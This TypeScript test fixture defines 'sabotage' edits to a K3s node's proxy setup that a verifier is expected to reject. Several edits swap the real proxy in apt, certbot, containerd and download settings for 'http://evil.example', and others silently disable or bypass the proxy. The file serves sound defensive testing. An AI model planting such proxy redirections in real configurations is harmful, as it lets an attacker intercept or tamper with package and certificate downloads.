import { refused } from './brief.ts';
import type { Edit, SabotagesOfKind } from './sabotage.ts';

const apt = '/etc/apt/apt.conf.d/99fjord-proxy';
const programs = '/etc/fjord/proxy.env';
const k3s = '/etc/rancher/k3s/proxy.env';
const dropIn = '/etc/systemd/system/k3s.service.d/fjord.conf';
const every = 'every-option';
const sourced = 'set -a\n# shellcheck source=/dev/null\n. /etc/fjord/proxy.env\nset +a\n';
const edit = (file: string, find: string, put = ''): Edit => ({ file, find, put });

const wrong = (name: string, ...change: Parameters<typeof edit>) =>
  refused(name, 'verify/not-as-meant', edit(...change), every);
const unused = (name: string, ...change: Parameters<typeof edit>) =>
  refused(name, 'verify/proxy-not-used', edit(...change), every);

/** The way to the internet of a node behind a proxy. */
export const proxies: SabotagesOfKind = [
  wrong(
    'apt asks another proxy',
    apt,
    '::http::Proxy "http://proxy.example.fi',
    '::http::Proxy "http://evil.example',
  ),
  wrong('apt asks another proxy by https', apt, 's::Proxy "http://proxy.', 's::Proxy "http://evil.'),
  wrong('apt goes past the proxy to one more host', apt, '::http::Proxy::mirror.', '::http::Proxy::deb.'),
  wrong('certbot asks another proxy', programs, 'https_proxy=http://proxy.', 'https_proxy=http://evil.'),
  wrong('certbot goes past the proxy to one more host', programs, 'no_proxy=', 'no_proxy=letsencrypt.org,'),
  wrong('containerd asks another proxy', k3s, 'HTTPS_PROXY=http://proxy.', 'HTTPS_PROXY=http://evil.'),
  wrong('K3s looks for Services behind the proxy', k3s, ',10.101.0.0/16'),
  wrong('K3s looks for the node behind the proxy', k3s, ',192.0.2.10'),
  wrong('downloads come through another proxy', 'apply.sh', '--proxy http://proxy.', '--proxy http://evil.'),
  wrong('downloads from pods go through the proxy', 'apply.sh', ' --noproxy localhost,', ' --noproxy '),
  unused('containerd reads no proxy', dropIn, 'EnvironmentFile=/etc/rancher/k3s/proxy.env\n'),
  unused('downloads go past the proxy', 'apply.sh', '    --proxy http://proxy.example.fi:3128', '    # '),
  unused('certbot reads no proxy', '/usr/local/sbin/openfaas-tls', '    . /etc/fjord/proxy.env\n'),
  unused(
    "certbot's own timer reads no proxy",
    '/etc/systemd/system/certbot.service.d/fjord.conf',
    'EnvironmentFile=/etc/fjord/proxy.env\n',
  ),
  unused('copies read no proxy', '/usr/local/sbin/fjord-backup', sourced),
  unused(
    'alerts read no proxy',
    '/usr/local/sbin/fjord-watch',
    'with open("/etc/fjord/proxy.env")',
    'with open("/dev/null")',
  ),
  unused('the look at nginx goes through the proxy', '/usr/local/sbin/fjord-watch', ' --noproxy *'),
  unused("apt's proxy comes after its first use", 'apply.sh', "begin 'proxy'\n", "begin 'packages'\n"),
  refused('a node without a proxy gets one', 'verify/not-as-meant', {
    file: 'apply.sh',
    find: "\nbegin 'packages'",
    put: `\nbegin 'proxy'\nmeaning=00000000\nput 0644 ${apt} <<'END'\nAcquire::http::Proxy "http://evil.example:3128";\nEND\n\nbegin 'packages'`,
  }),
  refused(
    'K3s fetches charts past the proxy, which only containerd reads',
    'verify/proxy-not-used',
    {
      file: 'platform.lock.json',
      find: '"sshPort": 22,',
      put: '"sshPort": 22,\n      "proxy": { "url": "http://proxy.example:3128", "except": [] },',
    },
    'gitops',
  ),
];
